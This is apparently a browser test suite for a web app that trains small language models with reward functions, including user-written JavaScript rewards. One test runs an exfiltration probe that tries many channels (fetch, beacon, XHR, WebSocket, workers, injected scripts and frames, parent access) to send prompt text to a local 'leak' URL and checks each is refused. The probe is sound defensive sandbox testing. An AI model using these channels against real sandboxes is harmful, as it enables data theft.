import { expect } from "vitest";
import type {} from "../../src/hooks";
import type { Browser, Tab } from "./chromium";
import { DevTools } from "./devtools";
import { numbers, pauseAt } from "./small";
import { story } from "./story";
import { told } from "./told";

/** A fresh model's answers begin with one of these letters one time in ten. */
const LETTER = "^[a-z]";
const BY_SCRIPT = "javascript:(record, completion) => (/^[a-z]/.test(completion) ? 1 : 0)";

const prompts = (count: number, from = 0) =>
  Array.from(
    { length: count },
    (_, i) => `${JSON.stringify({ prompt: `${i + from}?`, answer: `${i}` })}\n`,
  ).join("");

const SETTINGS = {
  steps: 10,
  prompts_per_batch: 16,
  max_new_tokens: 4,
  checkpoint_every: 4,
  eval_every: 4,
  learning_rate: 0.003,
};

/** Begins an online run as the form would; ends when it has begun, or could not. */
async function begin(tab: Tab, rewards: string[], settings: Record<string, unknown> = {}): Promise<void> {
  await tab.page.evaluate(
    async ({ asked, held, settings }) => {
      const model = { kind: "preset" as const, preset: "nano" };
      const prompts = { path: "prompts.jsonl", file: new Blob([asked]) };
      const evalPrompts = { path: "held-out.jsonl", file: new Blob([held]) };
      const spec = { model, data: [], eval: [], prompts, evalPrompts, settings };
      await window.tbrm?.app.train("Online", spec);
    },
    { asked: prompts(32), held: prompts(8, 40), settings: { ...SETTINGS, rewards, ...settings } },
  );
}

async function ready(open: () => Promise<Browser>, url: string): Promise<Tab> {
  const tab = await (await open()).tab(url);
  await tab.state("ready");
  return tab;
}

const mean = (values: number[]) => values.reduce((sum, value) => sum + value, 0) / values.length;

story("a model answers prompts, a reward judges, and it learns", async ({ site, open }) => {
  const tab = await ready(open, site.url);
  const { page } = tab;
  await page.click("text=Train your own");
  await page.check('input[value="online"]');
  await page.selectOption("#prompts", "sort-1");
  await page.selectOption("#model", "nano");
  const reward = page.locator(".rewards li").first();
  await expect.poll(() => reward.locator("input").first().inputValue(), { timeout: 60_000 }).toBe("sort-1");
  await reward.locator("select").selectOption("regex");
  await page.locator(".rewards li input").first().fill(LETTER);
  await page.getByText("Add a reward").click();
  await page.locator(".rewards li").nth(1).locator("input").nth(1).fill("0.1");
  await page.fill("input[name=learning_rate]", "0.01");
  await page.fill("input[name=steps]", "24");
  await page.fill("input[name=prompts_per_batch]", "32");
  const plan = page.locator(".estimate");
  // What an objective lacks is said before anything is started.
  await page.selectOption("select[name=objective]", "grpo");
  await plan.filter({ hasText: "`rollouts` is 1, and grpo compares several rollouts" }).waitFor();
  expect(await page.getByText("Start training").isDisabled()).toBe(true);
  await page.selectOption("select[name=objective]", "tbrm");
  await plan.filter({ hasText: /24 steps over at most .* tokens/ }).waitFor();
  await tab.picture("setup-online");
  await page.click("text=Start training");
  await page.locator(".run [role=status]", { hasText: /Round \d+: 32 answers of the model/ }).waitFor();
  await tab.state("done");

  const run = await numbers(tab);
  const letters = run["rewards/regex/mean"] ?? [];
  console.log(`answers that begin with a letter: ${letters.map((share) => share.toFixed(2)).join(" ")}`);
  expect(letters).toHaveLength(24);
  expect(mean(letters.slice(-6))).toBeGreaterThan(mean(letters.slice(0, 6)) + 0.15);
  expect(run["eval/reward"]?.some((value) => value > 0)).toBe(true);
  expect(await page.locator(".completions tbody tr").count()).toBeGreaterThan(3);
  await expect.poll(() => page.locator(".chart:not(.empty)", { hasText: "reward regex" }).count()).toBe(1);
  // Only some visitors need it.
  expect(await tab.fetched()).toContainEqual(expect.stringContaining("second"));
  await tab.picture("online");
  await page.setViewportSize({ width: 400, height: 800 });
  await tab.picture("online-narrow");
  await page.click("#again");
  await tab.picture("setup-online-narrow");
});

story(
  "every objective trains on the model's own answers, and dpo says why it cannot",
  async ({ site, open }) => {
    const tab = await ready(open, site.url);
    const objectives = await tab.page.evaluate(
      () => window.tbrm?.app.boot?.settings.find(({ name }) => name === "objective")?.choices ?? [],
    );
    expect(objectives).toHaveLength(11);
    for (const objective of objectives) {
      const settings = {
        objective,
        rollouts: 2,
        prompts_per_batch: 4,
        value_samples: 2,
        steps: 2,
        eval_every: 0,
      };
      await begin(tab, [`regex:${LETTER}`, "length:1-4"], settings);
      if (objective === "dpo") {
        expect(await told(tab, "config")).toContain("Dpo is trained on pairs, and rollouts are none");
        await tab.page.click("#fault button");
        await expect.poll(() => tab.page.evaluate(() => document.body.dataset.state)).toBe("ready");
        continue;
      }
      await tab.state("done");
      const { loss, grad_norm } = await numbers(tab);
      expect([objective, loss?.length, grad_norm?.every(Number.isFinite)]).toEqual([objective, 2, true]);
    }
  },
);

story("a function of one's own judges, and a reload in between changes no bits", async ({ site, open }) => {
  const whole = await ready(open, site.url);
  await begin(whole, [BY_SCRIPT]);
  await whole.state("done");
  const want = await numbers(whole);
  expect(want.step).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
  expect(mean(want["rewards/javascript/mean"] ?? [])).toBeGreaterThan(0);
  expect(want["rewards/javascript/mean"]).toEqual(want.reward);
  expect(await whole.page.locator("iframe").count()).toBe(0);

  const tab = await ready(open, site.url);
  await begin(tab, [BY_SCRIPT]);
  await pauseAt(tab, 6);
  await tab.page.reload();
  await tab.state("ready");
  await tab.page.locator(".notice", { hasText: "saved after step 4" }).getByText("Resume").click();
  await tab.state("done");
  expect(await numbers(tab)).toEqual(want);
});

/** Everything by which text could leave a worker; each way says how it went. */
const WAYS_OUT = (url: string) => `javascript:async (record, completion) => {
  const url = ${JSON.stringify(url)} + "?" + encodeURIComponent(record.prompt);
  const ways = {
    fetch: () => fetch(url, { mode: "no-cors" }),
    beacon: () => navigator.sendBeacon(url, "x"),
    request: () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.onload = done;
      request.onerror = fail;
      request.open("GET", url);
      request.send();
    }),
    import: () => import(url),
    importScripts: () => importScripts(url),
    image: () => new Image().src = url,
    socket: () => new Promise((done, fail) => Object.assign(new WebSocket(url.replace("http", "ws")), { onopen: done, onerror: fail })),
    events: () => new Promise((done, fail) => Object.assign(new EventSource(url), { onopen: done, onerror: fail })),
    worker: () => new Promise((done, fail) => {
      const code = "fetch(" + JSON.stringify(url) + ").then(() => postMessage(1), () => postMessage(0))";
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = ({ data }) => (data ? done() : fail());
      worker.onerror = fail;
    }),
    storage: () => new Promise((done, fail) => Object.assign(indexedDB.open("x"), { onsuccess: done, onerror: fail })),
  };
  if (self.origin !== "null") return 1000;
  let out = 0;
  for (const way of Object.values(ways)) await Promise.resolve().then(way).then(() => out++, () => {});
  return out;
}`;

story("neither a reward nor its frame reaches the network or the page", async ({ site, open }) => {
  const browser = await open();
  browser.expect(/leak|Content Security Policy|policy:|Failed to load|WebSocket/);
  const tab = await browser.tab(site.url);
  await tab.state("ready");
  const leak = new URL("leak", site.url).href;
  await begin(tab, [WAYS_OUT(leak)], { steps: 3, prompts_per_batch: 2, eval_every: 0 });
  await pauseAt(tab, 2);
  const frame = tab.page.frames().find((one) => one !== tab.page.mainFrame());
  if (!frame) throw Error("the reward has a frame");
  // What runs in the frame beside the reward, should a browser let it.
  const tried = await frame.evaluate(async (url) => {
    new Image().src = `${url}?image`;
    document.body.append(
      Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${url}?style` }),
    );
    document.body.append(Object.assign(document.createElement("script"), { src: `${url}?script` }));
    document.body.append(Object.assign(document.createElement("iframe"), { src: `${url}?frame` }));
    const fetched = await fetch(`${url}?fetch`, { mode: "no-cors" }).then(
      () => "fetched",
      () => "refused",
    );
    const parent = (() => {
      try {
        return window.parent.document.title;
      } catch {
        return "refused";
      }
    })();
    const storage = (() => {
      try {
        return localStorage.length;
      } catch {
        return "refused";
      }
    })();
    setTimeout(() => {
      location.href = `${url}?navigation`;
    });
    return { fetched, parent, storage, origin: self.origin };
  }, leak);
  expect(tried).toEqual({ fetched: "refused", parent: "refused", storage: "refused", origin: "null" });
  await tab.page.waitForTimeout(1000);
  expect(site.asked.filter((path) => path.includes("leak"))).toEqual([]);
  // The server would have noticed.
  await tab.page.evaluate((url) => fetch(url).then(() => {}), leak);
  expect(site.asked.filter((path) => path.includes("leak"))).toHaveLength(1);
  const scores = (await numbers(tab))["rewards/javascript/mean"];
  expect(scores).toEqual([0, 0]);
});

story(
  "a function that loops, throws or answers no number is told of, with what it judged",
  async ({ site, open }) => {
    const tab = await ready(open, site.url);
    const cases = {
      "(record, completion) => { for (;;) {} }":
        /`javascript` gave no score in 3 s, for the prompt "\d+\?" and the completion "/,
      "(record, completion) => { throw new Error('no idea'); }":
        /`javascript` threw Error: no idea, for the prompt/,
      "() => NaN": /`javascript` gave NaN for "/,
      "() => '1'": /`javascript` returned "1", which is no number, for the prompt/,
      "(record, completion) =>": /`javascript` failed: .*SyntaxError: .* \(line \d\), for the prompt/,
    };
    for (const [source, want] of Object.entries(cases)) {
      await begin(tab, [`javascript:${source}`]);
      expect(await told(tab, "(data|not-finite)")).toMatch(want);
      if (source.includes("for")) await tab.picture("reward-loops");
      await tab.page.click("#fault button");
      await expect.poll(() => tab.page.evaluate(() => document.body.dataset.state)).toBe("ready");
      await tab.state("ready");
      expect(await tab.page.locator("iframe").count()).toBe(0);
    }

    // Set aside where that is asked: those that loop cost their time, the others are trained on.
    const some = "javascript:(record, completion) => { while (record.prompt === '3?') {} return 1; }";
    await begin(tab, [some], { steps: 2, eval_every: 0, set_aside_failures: true });
    await tab.state("done");
    const aside = (await numbers(tab))["completions/set_aside"] ?? [];
    expect(aside.reduce((sum, count) => sum + count, 0)).toBe(1);
    const [lines] = await tab.page.evaluate(async () => {
      const run = window.tbrm?.app.live?.run ?? "";
      const files = (await window.tbrm?.request("files", { run })) ?? [];
      const paths = files.map(({ path }) => path).filter((path) => path.startsWith("set-aside/"));
      return Promise.all(
        paths.map(async (path) => (await window.tbrm?.request("file", { run, path }))?.text()),
      );
    });
    expect(JSON.parse(lines ?? "")).toMatchObject({
      line: 4,
      reason: expect.stringContaining("gave no score in 3 s"),
    });
  },
);

story(
  "without a network a function of one's own still judges, as the address asks",
  async ({ site, open }) => {
    const browser = await open();
    const tab = await browser.tab(site.url);
    await tab.state("ready");
    await tab.page.evaluate(() => navigator.serviceWorker.ready);
    await site.close();
    browser.expect(/ERR_CONNECTION_REFUSED|ERR_FAILED/);
    const run = {
      model: "nano",
      prompts: "sort-1",
      rewards: [BY_SCRIPT],
      steps: 2,
      prompts_per_batch: 8,
      max_new_tokens: 5,
    };
    const encoded = encodeURIComponent(Buffer.from(JSON.stringify(run)).toString("base64"));
    const offline = await browser.tab(`${site.url}?run=${encoded}`);
    await offline.state("done");
    const { step, reward } = await numbers(offline);
    expect([step, reward?.every(Number.isFinite)]).toEqual([[1, 2], true]);
  },
);

story("in a tab that is hidden for long a function of one's own judges on", async ({ site }) => {
  // As after five minutes in the background: the page's timers run once a minute.
  const browser = await DevTools.open(["--enable-features=IntensiveWakeUpThrottling:grace_period_seconds/1"]);
  try {
    const tab = await browser.tab(site.url);
    await tab.until(`document.body?.dataset.state === "ready"`);
    await browser.tab("about:blank");
    await tab.until("document.hidden");
    const settings = JSON.stringify({ ...SETTINGS, steps: 6, rewards: [BY_SCRIPT] });
    await tab.evaluate(`(async () => {
      const model = { kind: "preset", preset: "nano" };
      const prompts = { path: "prompts.jsonl", file: new Blob([${JSON.stringify(prompts(32))}]) };
      await window.tbrm.app.train("Hidden", { model, data: [], eval: [], prompts, settings: ${settings} });
    })()`);
    await tab.until(`window.tbrm.request("runs", {}).then((runs) => runs.some(({ finished }) => finished))`);
    expect(await tab.evaluate("document.hidden")).toBe(true);
  } finally {
    await browser.close();
  }
});

story("the demo is left in its last stage, online, and goes on there", async ({ site, open }) => {
  const tab = await (await open()).tab(site.url);
  await tab.state("ready");
  await tab.page.evaluate(async () => {
    const model = { kind: "demo" as const };
    await window.tbrm?.app.train("Demo", { model, data: [], eval: [], settings: { short: true } });
  });
  await tab.page.waitForFunction(() => {
    const stage = window.tbrm?.app.live?.stage;
    return stage?.name === "online" && (stage.columns.steps.at(-1) ?? 0) >= 2;
  });
  await tab.page.click("#stop");
  await tab.state("ready");
  await tab.page.reload();
  await tab.state("ready");
  await tab.page.locator(".notice", { hasText: "“Demo” is unfinished" }).getByText("Resume").click();
  await tab.state("done");
  const stages = await tab.page.evaluate(() =>
    window.tbrm?.app.live?.stages.map(({ name, columns, accuracy }) => {
      const judged = columns.get("rewards/exact/mean").filter(Number.isFinite).length;
      return [name, columns.steps, judged, accuracy.length];
    }),
  );
  // Also the steps before the reload are those of this stage: only here is each answer judged.
  expect(stages?.at(-1)).toEqual(["online", [1, 2, 3, 4], 4, 1]);
  expect(stages?.map(([name]) => name)).toEqual(["warm-start", "tbrm", "online"]);
  await tab.page.click('nav a[href="#runs"]');
  await expect.poll(() => tab.page.locator("li[data-run] .badge").textContent()).toBe("finished");
});
